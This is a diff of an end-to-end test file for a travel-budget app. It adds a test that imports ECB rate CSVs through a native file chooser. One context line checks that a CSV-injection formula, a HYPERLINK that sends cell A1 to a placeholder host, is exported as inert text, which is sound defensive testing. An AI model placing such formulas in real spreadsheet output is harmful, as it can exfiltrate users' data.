@@ -1,14 +1,15 @@
 // Travel in the real window: on the sample team, set a budget, add a trip by
 // IATA codes with costs in two currencies, see the derived figures, watch
 // the budget bar move past the 80 % alert, and export the quarter's cost lines
-// as CSV through the native save chooser (driven with xdotool).
+// as CSV through the native save chooser and import the ECB's rates through the
+// open one (both driven with xdotool).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { join, resolve } from 'node:path';
 import { By } from 'selenium-webdriver';
-import { saveInChooser } from './dialogs.mjs';
+import { pickInChooser, saveInChooser } from './dialogs.mjs';
 import { appSession, chooseOption, click, gone, isoDaysFromNow, screenshot, setDate, type, visible } from './harness.mjs';
 
 const session = appSession();
@@ -140,4 +141,15 @@ test('the cost lines export as CSV where the person saves them, formulas written
   const flight = lines.find((l) => l.includes('Trip to London') && l.includes(',flight,'));
   assert.ok(flight, `the new trip's flight is a row: ${lines.join('\n')}`);
   assert.ok(flight.includes(`"'=HYPERLINK(""https://x.example/?""&A1)"`), `the formula is text: ${flight}`);
+});
+
+test('the ECB reference rates import from the file picked in the chooser', async () => {
+  const { driver } = session.app;
+  await click(driver, '[data-tab="rates"]');
+  await click(driver, '[data-testid="import-rates"]');
+  await pickInChooser('Import ECB reference rates (CSV)', resolve(import.meta.dirname, '../fixtures/ecb/eurofxref-sample.csv'));
+  const imported = await visible(driver, '[data-testid="rates-imported"]', 15_000);
+  // The fixture's bad line (a rate of "1.0x") is named; the rest imports.
+  assert.match(await imported.getText(), /^16 rates for 4 days \(2026-01-05 to 2026-01-09\)/);
+  assert.match(await imported.getText(), /Line 5 left out/);
 });
